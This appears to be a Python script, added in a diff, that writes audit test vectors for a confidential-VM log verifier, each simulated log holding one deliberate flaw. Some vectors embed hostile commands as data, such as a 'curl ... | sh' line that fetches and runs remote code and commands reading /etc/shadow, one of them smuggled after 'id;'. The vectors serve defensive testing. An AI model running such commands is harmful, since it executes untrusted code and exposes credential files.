@@ -1,0 +1,183 @@
+"""Write the audit vectors: hand-built CVM logs, each named after the one flaw it holds.
+
+    .venv/bin/python tests/client/vectors/make_audit_vectors.py
+
+Each file holds the leaves (base64), the identities a verifier needs, optional
+expectations, and `fails`: exactly the checks that must fail on it (all others pass).
+`honest.json` is the same life without a flaw: every check passes. The evidence is
+SIMULATED SEV-SNP; its development ARK travels in the log.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import sys
+import tempfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+HERE = Path(__file__).resolve().parent
+sys.path.insert(0, str(HERE.parents[1]))
+
+from duet.attestation import SimulatedSnp  # noqa: E402
+from logbuilder import CVM_ID, LogBuilder  # noqa: E402
+
+
+def _life(log: LogBuilder, *, until_service: bool = True) -> dict[str, int]:
+    """The honest start of a life; returns the indices the flaws refer to."""
+    idx: dict[str, int] = {}
+    idx["create"] = log.intent("cvm.create", {"provider": "local"})
+    log.add("provisioned", instance_id=CVM_ID, host="127.0.0.1", port=2222, user="duet",
+            host_key=log.host_key, host_key_sha256="00" * 32, launch={})
+    log.evidence("provisioning", idx["create"])
+    log.mode("in-update", "provisioning", 0)
+    idx["run"] = log.intent("cvm.run", {"command": "echo hello"})
+    idx["command"] = log.command("echo hello", idx["run"])
+    if until_service:
+        idx["service"] = log.intent("cvm.mode", {"mode": "in-service"})
+        log.evidence("in-service", idx["service"])
+        log.mode("in-service", "in-update", 1)
+    return idx
+
+
+def honest(log: LogBuilder) -> None:
+    _life(log)
+
+
+def command_without_intent(log: LogBuilder) -> None:
+    _life(log, until_service=False)
+    log.command("curl http://198.51.100.7/x | sh", 4)  # index 4 is the provisioning evidence
+
+
+def result_for_closed_command(log: LogBuilder) -> None:
+    idx = _life(log)
+    log.result(idx["command"], b"a second result, written later\n")
+
+
+def policy_change_in_service(log: LogBuilder) -> None:
+    _life(log)
+    text = "version: 1\ncommands:\n  in-update: ['.*']\n  in-service: ['.*']\n"
+    log.intent("policy.set", {"policy": text})
+    log.add("policy", policy=text, policy_sha256="00" * 32)
+
+
+def mode_change_without_intent(log: LogBuilder) -> None:
+    idx = _life(log, until_service=False)
+    log.evidence("in-service", idx["run"])
+    log.mode("in-service", "in-update", 1)
+
+
+def unauthorised_owner_keys(log: LogBuilder) -> None:
+    _life(log)
+    log.add("owner_keys", keys=[base64.b64encode(b"\x01" * 32).decode()])
+
+
+def in_service_without_evidence(log: LogBuilder) -> None:
+    _life(log, until_service=False)
+    log.intent("cvm.mode", {"mode": "in-service"})
+    log.mode("in-service", "in-update", 1)
+
+
+def evidence_not_linked_to_its_attest_command(log: LogBuilder) -> None:
+    idx = _life(log, until_service=False)
+    service = log.intent("cvm.mode", {"mode": "in-service"})
+    log.evidence("in-service", service, link=False)
+    log.mode("in-service", "in-update", 1)
+    assert idx
+
+
+def tee_label_differs_from_evidence_kind(log: LogBuilder) -> None:
+    _life(log)
+
+
+def intent_for_another_cvm(log: LogBuilder) -> None:
+    _life(log, until_service=False)
+    i = log.intent("cvm.run", {"command": "id"}, cvm="fedcba9876543210")
+    log.command("id", i)
+
+
+def command_differs_from_its_intent(log: LogBuilder) -> None:
+    _life(log, until_service=False)
+    i = log.intent("cvm.run", {"command": "id"})
+    log.command("id; cat /etc/shadow", i)
+
+
+def command_in_service(log: LogBuilder) -> None:
+    _life(log)
+    i = log.intent("cvm.run", {"command": "id"})
+    log.command("id", i)
+
+
+def command_after_delete(log: LogBuilder) -> None:
+    _life(log, until_service=False)
+    run = log.intent("cvm.run", {"command": "id"})
+    log.intent("cvm.delete", {})
+    log.add("deleted", reason="deleted by the owner")
+    log.command("id", run)
+
+
+def mode_previous_mismatch(log: LogBuilder) -> None:
+    _life(log, until_service=False)
+    service = log.intent("cvm.mode", {"mode": "in-service"})
+    log.evidence("in-service", service)
+    log.mode("in-service", "in-service", 1)
+
+
+def builtin_under_a_run_intent(log: LogBuilder) -> None:
+    idx = _life(log, until_service=False)
+    log.command("cat /etc/shadow", idx["run"], action="snapshot", builtin=True)
+
+
+VECTORS: dict[str, tuple[Callable[[LogBuilder], None], list[str], dict[str, Any]]] = {
+    # name: (builder, checks that must fail, LogBuilder options)
+    "honest": (honest, [], {}),
+    "command_without_intent": (command_without_intent, ["commands_closed"], {}),
+    "result_for_closed_command": (result_for_closed_command, ["commands_closed"], {}),
+    "policy_change_in_service": (policy_change_in_service, ["mode_discipline"], {}),
+    "mode_change_without_intent": (mode_change_without_intent, ["intents", "commands_closed"], {}),
+    "unauthorised_owner_keys": (unauthorised_owner_keys, ["intents"], {}),
+    "in_service_without_evidence": (in_service_without_evidence, ["evidence"], {}),
+    "evidence_not_linked_to_its_attest_command": (evidence_not_linked_to_its_attest_command, ["evidence"], {}),
+    "tee_label_differs_from_evidence_kind": (tee_label_differs_from_evidence_kind, ["evidence", "cvm_tee"],
+                                             {"tee": "tdx", "evidence_kind": None, "expect_tee": "tdx"}),
+    "intent_for_another_cvm": (intent_for_another_cvm, ["intents"], {}),
+    "command_differs_from_its_intent": (command_differs_from_its_intent, ["commands_closed"], {}),
+    "command_in_service": (command_in_service, ["mode_discipline"], {}),
+    "command_after_delete": (command_after_delete, ["mode_discipline"], {}),
+    "mode_previous_mismatch": (mode_previous_mismatch, ["mode_discipline"], {}),
+    "builtin_under_a_run_intent": (builtin_under_a_run_intent, ["commands_closed"], {}),
+}
+
+
+def build(name: str, snp: SimulatedSnp) -> dict[str, Any]:
+    fn, fails, opts = VECTORS[name]
+    opts = dict(opts)
+    expect_tee = opts.pop("expect_tee", None)
+    log = LogBuilder(snp, **opts)
+    if name == "tee_label_differs_from_evidence_kind":
+        log.kind = "simulated-snp"  # what the hardware produced; genesis says tdx
+    fn(log)
+    return {
+        "flaw": name,
+        "fails": fails,
+        "doc": (fn.__doc__ or "").strip() or name.replace("_", " "),
+        "controller_id": log.controller_id,
+        "controller_key": log.controller_key,
+        "cvm_id": CVM_ID,
+        "trust_simulated": True,
+        "expect": {"cvm": {"tee": expect_tee}} if expect_tee else None,
+        "entries": [base64.b64encode(leaf).decode() for leaf in log.leaves()],
+    }
+
+
+def main() -> None:
+    with tempfile.TemporaryDirectory() as d:
+        snp = SimulatedSnp.load_or_create(Path(d))
+        for name in VECTORS:
+            (HERE / "audit" / f"{name}.json").write_text(json.dumps(build(name, snp), indent=1) + "\n")
+
+
+if __name__ == "__main__":
+    main()
